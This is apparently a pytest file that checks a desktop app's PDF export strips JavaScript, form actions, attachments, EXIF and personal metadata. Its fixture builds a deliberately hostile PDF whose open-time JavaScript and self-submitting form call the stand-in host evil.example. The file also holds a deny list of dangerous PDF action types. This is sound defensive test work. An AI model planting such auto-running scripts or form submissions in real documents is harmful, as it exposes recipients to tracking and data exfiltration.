"""What leaves in a packet: the documents' pages, and nothing about the user's machine.

The inputs are hostile on purpose: a PDF that runs JavaScript on opening, carries an embedded
file and a form that submits itself to a web address, names its author and the folder it came
from in its metadata; and a phone photo with GPS position, camera and owner in its EXIF. The
exported packet is then read back object by object.
"""

from __future__ import annotations

import io
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from desktop_app.ingest.exif import metadata_segments
from desktop_app.services import export, intake
from desktop_app.store.casefile import CaseFile
from tests.ingest.test_exif import phone_photo

SECRETS = (b"Maria Santos", b"maria", b"/home/", b"C:\\Users", b"Pixel 9", b"evil.example")
ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm", "/GoToR"}


def hostile_pdf(path: Path) -> Path:
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.launchURL('https://evil.example');")
    pdf.Root.OpenAction = pdf.make_indirect(js)
    attachment = pikepdf.AttachedFileSpec(pdf, b"maria's other bank account", filename="x.txt")
    pdf.attachments["maria-secret.txt"] = attachment
    submit = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm,
        F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://evil.example"),
    )
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            T="send",
            Rect=[72, 72, 200, 100],
            A=submit,
            P=page.obj,
        )
    )
    link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=js
        )
    )
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([field, link]))
    page.obj.AA = pikepdf.Dictionary(O=js)
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
    pdf.docinfo["/Author"] = "Maria Santos"
    pdf.docinfo["/Creator"] = "Microsoft Word - C:\\Users\\maria\\Documents\\bank.docx"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as xmp:
        xmp["dc:creator"] = ["Maria Santos"]
        xmp["dc:source"] = "/home/maria/Documents/bank-statement.pdf"
    pdf.save(path)
    return path


@pytest.fixture
def packet(case: CaseFile, tmp_path: Path) -> pikepdf.Pdf:
    private = tmp_path / "maria-private-folder"
    private.mkdir()
    (private / "IMG_0042.jpg").write_bytes(phone_photo())
    outcomes = intake.take_in(case, [hostile_pdf(private / "bank.pdf"), private / "IMG_0042.jpg"])
    assert [o.status for o in outcomes] == ["added", "added"]
    built = export.export_packet(case, tmp_path / "packet.pdf")
    with pikepdf.open(built.path) as pdf:
        yield pdf


def _objects(pdf: pikepdf.Pdf) -> list[pikepdf.Object]:
    return [o for o in pdf.objects if isinstance(o, pikepdf.Dictionary | pikepdf.Stream)]


def test_no_author_creator_or_xmp_from_the_inputs(packet: pikepdf.Pdf) -> None:
    assert set(packet.docinfo.keys()) <= {"/Title", "/Producer"}
    assert str(packet.docinfo.get("/Producer")) == "VisaCase"
    assert "/Metadata" not in packet.Root
    assert not any(o.get("/Type") == "/Metadata" for o in _objects(packet))


def test_no_javascript_actions_embedded_files_or_forms(packet: pikepdf.Pdf) -> None:
    for key in ("/OpenAction", "/AA", "/AcroForm", "/Names"):
        assert key not in packet.Root
    assert not packet.attachments
    for obj in _objects(packet):
        assert obj.get("/S") not in ACTIONS, obj
        assert "/JS" not in obj and "/EF" not in obj and "/AA" not in obj
        assert obj.get("/Type") not in {"/EmbeddedFile", "/Filespec"}
        assert obj.get("/Subtype") not in {"/Widget", "/FileAttachment"}


def _jpegs(pdf: pikepdf.Pdf) -> list[bytes]:
    return [
        o.read_raw_bytes()
        for o in _objects(pdf)
        if isinstance(o, pikepdf.Stream) and o.get("/Filter") == "/DCTDecode"
    ]


def test_no_local_paths_or_names_anywhere_in_the_file(packet: pikepdf.Pdf, tmp_path: Path) -> None:
    """Every object and every decoded stream, photos aside (the test below covers those)."""
    raw = io.BytesIO()
    packet.save(
        raw, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.generalized
    )
    data = raw.getvalue()
    for jpeg in _jpegs(packet):
        data = data.replace(jpeg, b"")
    for secret in (*SECRETS[:4], str(tmp_path).encode(), b"maria-private-folder"):
        assert secret not in data


def test_photos_carry_no_gps_camera_or_owner(packet: pikepdf.Pdf) -> None:
    jpegs = _jpegs(packet)
    assert jpegs
    for jpeg in jpegs:
        assert metadata_segments(jpeg) == []
        with Image.open(io.BytesIO(jpeg)) as img:
            assert not img.getexif()
